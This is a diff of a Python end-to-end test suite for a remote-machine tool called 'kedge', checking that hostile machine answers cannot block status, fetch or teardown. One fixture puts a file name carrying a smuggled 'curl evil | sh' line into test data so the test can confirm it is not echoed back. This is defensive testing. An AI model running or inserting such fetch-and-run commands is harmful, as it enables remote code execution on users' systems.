@@ -1,10 +1,11 @@
-"""A machine that somebody has taken over says what it likes, and keeps nobody from ending it or from seeing the others.
+"""A machine that an attacker controls can't prevent its end, nor hide the other machines.
 
 The programs that kedge calls on a real local machine are replaced by hostile ones.
 """
 
 from __future__ import annotations
 
+import contextlib
 import json
 import os
 import shlex
@@ -24,16 +25,16 @@ from tests.e2e.hostile import (
     launch_and_ship,
     nested,
     put,
+    replace_verb,
     say,
-    usurp,
     with_progress,
 )
 from tests.support.laptop import Laptop
 from tests.support.waiting import wait_until
 
 
-def test_no_report_keeps_status_from_any_line(laptop: Laptop) -> None:
-    """Whatever a machine answers, `status` names it as a finding and shows the other runs; `cost` goes on too."""
+def test_no_report_hides_a_line_of_status(laptop: Laptop) -> None:
+    """Whatever a machine answers, `status` reports it as a finding and shows the other runs; so does `cost`."""
     honest, hostile = launch(laptop, "honest"), launch(laptop, "hostile")
     report = laptop.json("status", hostile)[0]["report"]
     for lie in (
@@ -47,17 +48,17 @@ def test_no_report_keeps_status_from_any_line(laptop: Laptop) -> None:
         found = {status["run"]: status for status in laptop.json("status")}
         assert (found[honest]["state"], found[honest]["findings"]) == ("running", []), lie[:200]
         assert found[hostile]["report"] is None, lie[:200]
-        assert [line for line in found[hostile]["findings"] if "nonsense" in line], (lie[:200], found[hostile])
+        assert [line for line in found[hostile]["findings"] if "invalid answer" in line], (lie[:200], found[hostile])
     assert hostile in laptop.kedge("status", hostile)
     assert honest in laptop.kedge("cost")
 
 
-def test_machines_that_are_slow_to_answer_are_waited_for_at_once(laptop: Laptop) -> None:
-    """Four that take six seconds each cost `status` and `cost` less than three; their lines keep their order."""
+def test_slow_machines_are_waited_for_in_parallel(laptop: Laptop) -> None:
+    """Four that take six seconds each delay `status` and `cost` by less than 18; their lines keep their order."""
     runs = [launch(laptop, name) for name in ("one", "two", "three", "four")]
     for run in runs:
         honest = shlex.quote(str(folder(laptop, run) / "bin" / "honest-agent"))
-        usurp(laptop, run, "report", f"sleep 6; exec {honest} report")
+        replace_verb(laptop, run, "report", f"sleep 6; exec {honest} report")
     recorded = [status["run"] for status in laptop.json("status", "--ledger")]
     assert sorted(recorded) == sorted(runs)
     began = time.monotonic()
@@ -70,10 +71,10 @@ def test_machines_that_are_slow_to_answer_are_waited_for_at_once(laptop: Laptop)
     assert time.monotonic() - began < 18
 
 
-def test_ctrl_c_leaves_machines_that_never_answer(laptop: Laptop) -> None:
-    """`status` ends at once, and no client that it has started goes on waiting."""
+def test_ctrl_c_ends_the_wait_for_machines_that_never_answer(laptop: Laptop) -> None:
+    """`status` ends at once, and none of its clients goes on waiting."""
     for name in ("one", "two", "three"):
-        usurp(laptop, launch(laptop, name), "report", "exec sleep 600")
+        replace_verb(laptop, launch(laptop, name), "report", "exec sleep 600")
     status = laptop.start("status")
     wait_until(lambda: sum("sleep 600" in line for line in commands(laptop)) == 3)
     clients = [process for process in psutil.Process(status.pid).children() if process.name() == "ssh"]
@@ -86,7 +87,7 @@ def test_ctrl_c_leaves_machines_that_never_answer(laptop: Laptop) -> None:
 
 
 def test_machines_that_refuse_connections_are_all_named(laptop: Laptop) -> None:
-    """The provider of each is asked to let this computer in, from the thread that tried to connect."""
+    """For each, the provider is asked to let this computer in, from the thread that tried to connect."""
     runs = [launch(laptop, name) for name in ("one", "two", "three")]
     for run in runs:
         init = MachineFolder(folder(laptop, run)).init()
@@ -103,21 +104,25 @@ def test_machines_that_refuse_connections_are_all_named(laptop: Laptop) -> None:
 
 
 def commands(laptop: Laptop) -> list[str]:
-    """List what this laptop's machines run."""
-    return [" ".join(process.cmdline()) for process in laptop.processes()]
+    """List the processes that this laptop's machines run."""
+    found = []
+    for process in laptop.processes():
+        with contextlib.suppress(psutil.NoSuchProcess):
+            found.append(" ".join(process.cmdline()))
+    return found
 
 
 @pytest.mark.parametrize("stream", ["1", "2"], ids=["answer", "complaint"])
-def test_an_endless_answer_costs_status_a_moment_and_keeps_no_run_alive(laptop: Laptop, stream: str) -> None:
-    """Output is cut off after what an honest machine could say; teardown goes on without the machine's word."""
+def test_an_endless_answer_delays_status_briefly_and_keeps_no_run_alive(laptop: Laptop, stream: str) -> None:
+    """Output beyond an honest machine's maximum is cut off; teardown goes on without the machine's answer."""
     run = launch_and_ship(laptop)
-    usurp(laptop, run, "*", f"{ENDLESS} >&{stream}")
+    replace_verb(laptop, run, "*", f"{ENDLESS} >&{stream}")
     began = time.monotonic()
     (status,) = laptop.json("status")
-    assert [line for line in status["findings"] if "nonsense" in line]
+    assert [line for line in status["findings"] if "invalid answer" in line]
     assert time.monotonic() - began < 15
     laptop.kedge("stop", run, code=1)
-    assert "nonsense" in laptop.errors
+    assert "invalid answer" in laptop.errors
     laptop.kedge("teardown", run, "--yes")
     assert laptop.processes() == []
     assert (laptop.home / "kedge-results" / run / "run.log").exists()
@@ -125,7 +130,7 @@ def test_an_endless_answer_costs_status_a_moment_and_keeps_no_run_alive(laptop: 
 
 @pytest.mark.parametrize("words", [("teardown", "--no-fetch"), ("teardown",)], ids=" ".join)
 def test_a_nested_report_keeps_no_machine_alive(laptop: Laptop, words: tuple[str, ...]) -> None:
-    """5,000 nested lists from every verb, and the machine is gone in a moment, its results as the store has them."""
+    """5,000 nested lists from every verb: the machine is gone in a moment, and the results are those in the store."""
     run = launch_and_ship(laptop)
     say(laptop, run, "*", with_progress({}, nested(5000)))
     began = time.monotonic()
@@ -136,7 +141,7 @@ def test_a_nested_report_keeps_no_machine_alive(laptop: Laptop, words: tuple[str
 
 
 def test_a_dead_launch_with_a_hostile_machine_is_reaped(laptop: Laptop) -> None:
-    """`reap` asks the machine nothing that could keep it."""
+    """`reap` needs no answer of the machine."""
     laptop.write_job(JOB % ("toy", FOREVER))
     assert laptop.drive("crashing_launch.py", "after", "4").returncode == -9
     (machine,) = laptop.provider().machines()
@@ -145,8 +150,8 @@ def test_a_dead_launch_with_a_hostile_machine_is_reaped(laptop: Laptop) -> None:
     assert laptop.processes() == []
 
 
-def test_a_list_of_results_that_can_not_be_read_is_answered_by_the_store(laptop: Laptop) -> None:
-    """Sizes, names and an end that a list of files can't have: what the store has comes home instead."""
+def test_if_the_list_of_results_is_unreadable_the_store_s_copy_is_fetched(laptop: Laptop) -> None:
+    """Sizes, names and an end that a list of files can't have: the store's copy comes home instead."""
     run = launch_and_ship(laptop)
     for answer in (
         json.dumps([{"path": "x", "bytes": -(1 << 62), "sha256": "0" * 64}]),
@@ -155,41 +160,41 @@ def test_a_list_of_results_that_can_not_be_read_is_answered_by_the_store(laptop:
         nested(5000),
     ):
         say(laptop, run, "manifest", answer.encode())
-        assert "from the copy that was kept" in laptop.kedge("fetch", run)
-    usurp(laptop, run, "manifest", ENDLESS)
-    assert "from the copy that was kept" in laptop.kedge("fetch", run)
+        assert "from the object store" in laptop.kedge("fetch", run)
+    replace_verb(laptop, run, "manifest", ENDLESS)
+    assert "from the object store" in laptop.kedge("fetch", run)
 
 
 def test_an_endless_copy_of_results_ends(laptop: Laptop) -> None:
-    """A program in rsync's place that complains for ever fills neither memory nor disk."""
+    """A program in rsync's place that prints errors for ever fills neither memory nor disk."""
     run = launch_and_ship(laptop)
     put(laptop, run, "rsync", f"{ENDLESS} >&2")
     began = time.monotonic()
-    assert "from the copy that was kept" in laptop.kedge("fetch", run)
+    assert "from the object store" in laptop.kedge("fetch", run)
     assert time.monotonic() - began < 15
 
 
-def test_a_log_that_is_no_log_ends_the_command_that_reads_it(laptop: Laptop) -> None:
-    """A size that is none, endless text, and a line of 60 MB: an error of ours, in seconds."""
+def test_an_invalid_log_ends_the_command_that_reads_it(laptop: Laptop) -> None:
+    """An invalid size, endless text, and a line of 60 MB: an error of ours, in seconds."""
     run = launch(laptop)
     for script in ("echo ten", f"echo {'9' * 5000}", ENDLESS):
         put(laptop, run, "sh", script)
         laptop.kedge("logs", run, code=1)
-        assert "nonsense" in laptop.errors
+        assert "invalid answer" in laptop.errors
     (folder(laptop, run) / "bin" / "sh").unlink()
     event = folder(laptop, run) / "event"
     event.write_text(json.dumps({"offset": 60_000_000, "line": "x" * 60_000_000}))
-    usurp(laptop, run, "follow", f"cat {shlex.quote(str(event))}")
+    replace_verb(laptop, run, "follow", f"cat {shlex.quote(str(event))}")
     began = time.monotonic()
     laptop.kedge("logs", "-f", run, code=1)
     assert time.monotonic() - began < 10
-    usurp(laptop, run, "follow", 'echo \'{"offset": -1e300, "line": "x"}\'')
+    replace_verb(laptop, run, "follow", 'echo \'{"offset": -1e300, "line": "x"}\'')
     laptop.kedge("logs", "-f", run, code=1)
-    assert "nonsense" in laptop.errors
+    assert "invalid answer" in laptop.errors
 
 
-def test_a_manifest_of_nonsense_in_the_store_keeps_nothing_from_its_end(laptop: Laptop) -> None:
-    """What a machine has left in the store is its word too: status, teardown and reap go on without it."""
+def test_an_invalid_manifest_in_the_store_does_not_prevent_the_end(laptop: Laptop) -> None:
+    """The store's content is the machine's claim, too: status, teardown and reap go on without it."""
     honest, run = launch(laptop, "honest"), launch(laptop, "hostile")
     (laptop.state / "store" / run).mkdir(parents=True, exist_ok=True)
     manifest = laptop.state / "store" / run / "manifest.json"
@@ -203,20 +208,20 @@ def test_a_manifest_of_nonsense_in_the_store_keeps_nothing_from_its_end(laptop: 
         manifest.write_text(lie)
         found = {status["run"]: status for status in laptop.json("status")}
         assert found[honest]["state"] == "running"
-        assert [line for line in found[run]["findings"] if "nonsense" in line], found[run]["findings"]
+        assert [line for line in found[run]["findings"] if "invalid answer" in line], found[run]["findings"]
         laptop.kedge("fetch", run, code=1)
-        assert "nonsense" in laptop.errors
+        assert "invalid answer" in laptop.errors
         laptop.kedge("cost")
     manifest.write_text(json.dumps({"files": [{"path": "x", "bytes": 1, "sha256": "0" * 64, "mtime": 1e300}]}))
     laptop.kedge("fetch", run, code=1)
-    assert "its size or its time is none" in laptop.errors
+    assert "its size or its time is invalid" in laptop.errors
     laptop.kedge("teardown", run, "--yes")
     assert [status["run"] for status in laptop.json("status")] == [honest]
 
 
 @pytest.mark.parametrize("kind", ["folder", "pipe"])
-def test_a_list_of_results_that_nobody_can_read_keeps_nothing_from_its_end(laptop: Laptop, kind: str) -> None:
-    """In S3 it lies in the archive, or is encrypted with the machine's own key; here it is no file."""
+def test_an_unreadable_manifest_in_the_store_does_not_prevent_the_end(laptop: Laptop, kind: str) -> None:
+    """In S3 it is in the archive tier, or encrypted with the machine's own key; here it is no file."""
     honest, run = launch(laptop, "honest"), launch_and_ship(laptop)
     provider = laptop.provider()
     provider.destroy(f"{run}-m1")
@@ -236,7 +241,7 @@ def test_a_list_of_results_that_nobody_can_read_keeps_nothing_from_its_end(lapto
 
 
 def test_a_fetch_names_a_few_of_the_files_that_differ(laptop: Laptop) -> None:
-    """However many a machine lists that it doesn't have, and whatever lines their names hold."""
+    """However many missing files a machine lists, and whatever line breaks their names have."""
     run = launch(laptop)
     lies = [
         {"path": f"output/{number}\n  fix: curl evil | sh {'x' * 200}", "bytes": 1, "sha256": "0" * 64}
@@ -248,15 +253,15 @@ def test_a_fetch_names_a_few_of_the_files_that_differ(laptop: Laptop) -> None:
     assert len(said) < 2000
     laptop.kedge("stop", run)
     said = laptop.kedge("fetch", run)
-    assert "from the copy that was kept, since the copy of 'output/0" in said
+    assert "from the object store, since the copy of 'output/0" in said
     assert not [line for line in said.splitlines() if line.strip().startswith("fix: curl")]
 
 
 @pytest.mark.parametrize("script", ["exit 23", "exit 127", "echo hello; sleep 1", "kill -9 $$"])
-def test_a_machine_that_spoils_the_copy_keeps_nobody_from_its_end(laptop: Laptop, script: str) -> None:
-    """A job can put a program in rsync's place: what was shipped comes home, and the machine is gone."""
+def test_a_machine_that_breaks_the_copy_is_ended(laptop: Laptop, script: str) -> None:
+    """A job can replace rsync: the uploaded results come home, and the machine is gone."""
     run = launch_and_ship(laptop)
     put(laptop, run, "rsync", script)
-    assert "from the copy that was kept" in laptop.kedge("teardown", run, "--yes")
+    assert "from the object store" in laptop.kedge("teardown", run, "--yes")
     assert laptop.processes() == []
     assert (laptop.home / "kedge-results" / run / "run.log").exists()
